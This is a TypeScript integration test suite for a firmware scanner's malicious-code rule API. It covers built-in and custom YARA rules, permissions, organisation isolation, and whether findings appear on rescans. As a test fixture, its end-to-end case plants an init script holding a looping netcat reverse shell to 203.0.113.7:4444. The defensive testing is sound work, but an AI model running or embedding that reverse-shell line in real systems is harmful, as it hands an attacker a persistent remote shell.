// Malicious-code rules over the real server, on every database: the built-in rules listed with their metadata,
// custom rules added (compile errors with the compiler's messages, duplicate names, size, roles), changed,
// switched off and deleted, organisations kept apart; and end to end, a custom rule and a built-in rule
// producing maliciousCode findings on the next scan, and no longer once they are switched off.
import tarStream from 'tar-stream';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { builtinRuleCatalog } from '../../src/engine/malware/rule-catalog.js';
import { addOrg } from '../../src/services/identity-admin.js';
import { testDialects } from '../support/databases.js';
import { ADMIN, call, passwordToken, startTestServer, uploadAndScan, waitFor, type TestServer } from '../support/server.js';

const MARKER = 'FIRMSCOPE-TEST-MARKER-7f3a9c';
const MARKER_RULE = `rule acme_marker {\n  meta:\n    severity = "medium"\n    description = "ACME test marker left in a script"\n  strings:\n    $m = "${MARKER}"\n  condition:\n    $m\n}\n`;
const NETCAT_ID = 'builtin/shell-persistence/netcat_exec_shell';

async function tar(entries: Array<{ name: string; body: string }>): Promise<Buffer> {
  const pack = tarStream.pack();
  const parts: Buffer[] = [];
  pack.on('data', (chunk: unknown) => {
    parts.push(chunk as Buffer);
  });
  const done = new Promise<void>((resolve) => pack.on('end', () => resolve()));
  for (const entry of entries) pack.entry({ name: entry.name, mode: 0o755 }, entry.body);
  pack.finalize();
  await done;
  return Buffer.concat(parts);
}

for (const dialect of testDialects()) {
  describe(`malicious-code rules [${dialect}]`, () => {
    let t: TestServer;
    let admin: string;
    let viewer: string;
    let editor: string;
    let otherAdmin: string;

    beforeAll(async () => {
      t = await startTestServer({ postgres: dialect === 'postgres' });
      admin = await passwordToken(t.base, ADMIN.email, ADMIN.password);
      for (const role of ['viewer', 'editor'] as const) {
        const created = await call(t.base, admin, 'POST', '/api/v4/users', { email: `${role}@example.com`, password: `${role}-password-1`, role });
        expect(created.status).toBe(201);
      }
      viewer = await passwordToken(t.base, 'viewer@example.com', 'viewer-password-1');
      editor = await passwordToken(t.base, 'editor@example.com', 'editor-password-1');
      await addOrg(t.server.runtime.repos.identities, { name: 'rules-other', adminEmail: 'admin@rules-other.test', adminPassword: 'other-password-1' });
      otherAdmin = await passwordToken(t.base, 'admin@rules-other.test', 'other-password-1');
    }, 60_000);
    afterAll(async () => t?.close());

    const rules = async (token: string) => {
      const listed = await call(t.base, token, 'GET', '/api/v4/rules');
      expect(listed.status).toBe(200);
      return listed.body.rules as Array<Record<string, any>>;
    };
    const rulePath = (id: string) => `/api/v4/rules/${encodeURIComponent(id)}`;

    it('lists every built-in rule with its metadata, enabled, to every role', async () => {
      const listed = await rules(viewer);
      const builtIn = listed.filter((r) => r.builtIn);
      expect(builtIn.map((r) => r.id).sort()).toEqual(builtinRuleCatalog().map((r) => r.id).sort());
      expect(builtIn.length).toBeGreaterThan(20);
      expect(builtIn.find((r) => r.id === NETCAT_ID)).toEqual({
        id: NETCAT_ID, name: 'netcat_exec_shell', builtIn: true, enabled: true, file: 'shell-persistence.yar', family: 'reverse-shell', severity: 'high',
        description: expect.stringContaining('netcat'), references: expect.arrayContaining(['https://attack.mitre.org/techniques/T1059/004/']),
      });
      expect((await rules(editor)).length).toBe(listed.length);
    });

    it('adds a custom rule (admin only), refusing compile errors, empty sources, oversized sources and duplicate names', async () => {
      const created = await call(t.base, admin, 'POST', '/api/v4/rules', { name: 'ACME marker', source: MARKER_RULE });
      expect(created.status).toBe(201);
      expect(created.body).toMatchObject({ name: 'ACME marker', builtIn: false, enabled: true, source: MARKER_RULE, ruleNames: ['acme_marker'], author: { email: ADMIN.email } });
      expect(created.body.id).toMatch(/^[0-9A-Z]{26}$/);
      expect((await rules(viewer)).filter((r) => !r.builtIn).map((r) => r.id)).toContain(created.body.id);

      const broken = await call(t.base, admin, 'POST', '/api/v4/rules', { name: 'broken', source: 'rule broken {\n  condition:\n    undefined_thing\n}\n' });
      expect(broken.status).toBe(422);
      expect(broken.body.message).toMatch(/does not compile/);
      expect(broken.body.details[0]).toMatchObject({ field: 'source', reason: expect.stringMatching(/unknown identifier `undefined_thing`[\s\S]*line:3/) });

      const slow = await call(t.base, admin, 'POST', '/api/v4/rules', { name: 'slow', source: 'rule slow { strings: $a = /[a-z]+/ condition: $a }' });
      expect(slow.status).toBe(422);
      expect(slow.body.details.map((d: any) => d.reason).join('\n')).toMatch(/slow/);

      const empty = await call(t.base, admin, 'POST', '/api/v4/rules', { name: 'empty', source: '// just a comment\n' });
      expect(empty.status).toBe(422);
      expect(empty.body.message).toMatch(/declares no rule/);

      const huge = await call(t.base, admin, 'POST', '/api/v4/rules', { name: 'huge', source: `${MARKER_RULE}\n// ${'x'.repeat(256 * 1024)}\n` });
      expect(huge.status).toBe(400);
      expect(huge.body.message).toMatch(/at most 262144 bytes/);

      const duplicate = await call(t.base, admin, 'POST', '/api/v4/rules', { name: 'ACME marker', source: MARKER_RULE });
      expect(duplicate.status).toBe(409);
      expect(duplicate.body.message).toMatch(/already exists/);

      for (const token of [viewer, editor]) {
        const refused = await call(t.base, token, 'POST', '/api/v4/rules', { name: 'not allowed', source: MARKER_RULE });
        expect(refused.status).toBe(403);
        expect(refused.body.permission).toBe('rules.manage');
      }
      // another organisation may use the same name
      const elsewhere = await call(t.base, otherAdmin, 'POST', '/api/v4/rules', { name: 'ACME marker', source: MARKER_RULE });
      expect(elsewhere.status).toBe(201);
      await call(t.base, otherAdmin, 'DELETE', rulePath(elsewhere.body.id));
    });

    it('changes, switches off and deletes rules; built-in rules are only switched off, and never across organisations', async () => {
      const created = await call(t.base, admin, 'POST', '/api/v4/rules', { name: 'to change', source: 'rule change_me { strings: $a = "CHANGE-ME-123" condition: $a }', enabled: false });
      expect(created.body.enabled).toBe(false);
      const path = rulePath(created.body.id);

      const renamed = await call(t.base, admin, 'PATCH', path, { name: 'changed', enabled: true, source: 'rule changed { strings: $a = "CHANGED-456" condition: $a }' });
      expect(renamed.status).toBe(200);
      expect(renamed.body).toMatchObject({ name: 'changed', enabled: true, ruleNames: ['changed'] });
      const broken = await call(t.base, admin, 'PATCH', path, { source: 'rule x {' });
      expect(broken.status).toBe(422);
      expect((await call(t.base, admin, 'PATCH', path, { name: 'ACME marker' })).status).toBe(409);

      // another organisation: not found, whatever it tries, and its list does not show the rule
      for (const [method, body] of [['PATCH', { enabled: false }], ['DELETE', undefined]] as const) {
        const other = await call(t.base, otherAdmin, method, path, body);
        expect(other.status).toBe(404);
        expect(other.body.message).toBe(`rule ${created.body.id} not found`);
      }
      expect((await rules(otherAdmin)).some((r) => r.id === created.body.id)).toBe(false);
      expect((await call(t.base, viewer, 'PATCH', path, { enabled: false })).status).toBe(403);

      // built-in: switched off for this organisation only; not renamed, not deleted
      const off = await call(t.base, admin, 'PATCH', rulePath(NETCAT_ID), { enabled: false });
      expect(off.status).toBe(200);
      expect(off.body).toMatchObject({ id: NETCAT_ID, builtIn: true, enabled: false });
      expect((await rules(viewer)).find((r) => r.id === NETCAT_ID)!.enabled).toBe(false);
      expect((await rules(otherAdmin)).find((r) => r.id === NETCAT_ID)!.enabled).toBe(true);
      expect((await call(t.base, admin, 'PATCH', rulePath(NETCAT_ID), { enabled: true })).body.enabled).toBe(true);
      expect((await call(t.base, admin, 'PATCH', rulePath(NETCAT_ID), { name: 'mine' })).status).toBe(409);
      const deleteBuiltIn = await call(t.base, admin, 'DELETE', rulePath(NETCAT_ID));
      expect(deleteBuiltIn.status).toBe(409);
      expect(deleteBuiltIn.body.message).toMatch(/disable it instead/);
      expect((await call(t.base, admin, 'PATCH', rulePath('builtin/shell-persistence/no_such_rule'), { enabled: false })).status).toBe(404);
      const malformed = await call(t.base, admin, 'DELETE', rulePath('not-a-rule-id'));
      expect(malformed.status).toBe(400);
      expect(malformed.body.message).toMatch(/ULID or a built-in rule's id/);

      const deleted = await call(t.base, admin, 'DELETE', path);
      expect(deleted.status).toBe(204);
      expect((await call(t.base, admin, 'DELETE', path)).status).toBe(404);
      expect((await rules(admin)).some((r) => r.id === created.body.id)).toBe(false);
    });

    it('applies enabled rules to the next scan and drops switched-off ones from the scan after', async () => {
      const { repos } = t.server.runtime;
      const marker = (await rules(admin)).find((r) => r.name === 'ACME marker')!;
      const productId = String((await call(t.base, admin, 'POST', '/api/v4/products', { name: 'rules-e2e' })).body.id).split('/').pop()!;
      const image = await tar([
        { name: 'etc/init.d/S99acme', body: `#!/bin/sh\n# ${MARKER}\nwhile true; do\n  nc 203.0.113.7 4444 -e /bin/sh\n  sleep 60\ndone &\n` },
        { name: 'etc/banner', body: 'Welcome to the ACME router\n' },
      ]);
      const imageId = await uploadAndScan(t.base, admin, productId, 'acme', 'acme-fw.tar', image);
      const imagePath = `/api/v4/products/${productId}/images/${imageId}`;

      const findings = async () => {
        const grid = await call(t.base, admin, 'POST', '/api/v4/grids/findings:gridList', {
          filters: [{ field: 'imageId', value: imageId, comparator: 'equals' }], page: { num: 1, size: 100 },
        });
        expect(grid.status).toBe(200);
        return (grid.body.rows as Array<{ pname: string; findingType: string }>).filter((r) => r.findingType === 'maliciousCode').map((r) => r.pname).sort();
      };
      const rescan = async (): Promise<string> => {
        const created = await call(t.base, admin, 'POST', `${imagePath}/scans`);
        expect(created.status).toBe(201);
        const scanId: string = created.body.id;
        await waitFor(async () => {
          const state = (await call(t.base, admin, 'GET', `${imagePath}/scans/${scanId}`)).body.latestScanState;
          if (state.type === 'failed') throw new Error(`scan failed: ${JSON.stringify(state)}`);
          return state.type === 'done' ? true : undefined;
        }, 120_000);
        return scanId;
      };
      const ruleSetOf = async (scanId: string) => {
        const stored = (await repos.scans.getById(scanId))!.summary?.ruleSet;
        expect((await call(t.base, admin, 'GET', `${imagePath}/scans/${scanId}`)).body.summary.ruleSet).toBe(stored);
        return stored;
      };

      expect(await findings()).toEqual([`custom/${marker.id}/acme_marker`, 'reverse-shell/netcat_exec_shell']);
      const firstScan = (await call(t.base, admin, 'GET', `${imagePath}/scans`)).body.scans[0].id as string;
      const firstRuleSet = await ruleSetOf(firstScan);
      expect(firstRuleSet).toMatch(/^sha256:[0-9a-f]{64}$/);

      expect((await call(t.base, admin, 'PATCH', rulePath(marker.id), { enabled: false })).status).toBe(200);
      const second = await rescan();
      expect(await findings()).toEqual(['reverse-shell/netcat_exec_shell']);

      expect((await call(t.base, admin, 'PATCH', rulePath(NETCAT_ID), { enabled: false })).status).toBe(200);
      const third = await rescan();
      expect(await findings()).toEqual([]);
      const ruleSets = [firstRuleSet, await ruleSetOf(second), await ruleSetOf(third)];
      expect(new Set(ruleSets).size).toBe(3);

      // switched back on: the same rule set as the first scan, and the same findings
      await call(t.base, admin, 'PATCH', rulePath(marker.id), { enabled: true });
      await call(t.base, admin, 'PATCH', rulePath(NETCAT_ID), { enabled: true });
      const fourth = await rescan();
      expect(await findings()).toEqual([`custom/${marker.id}/acme_marker`, 'reverse-shell/netcat_exec_shell']);
      expect(await ruleSetOf(fourth)).toBe(firstRuleSet);
    }, 240_000);
  });
}
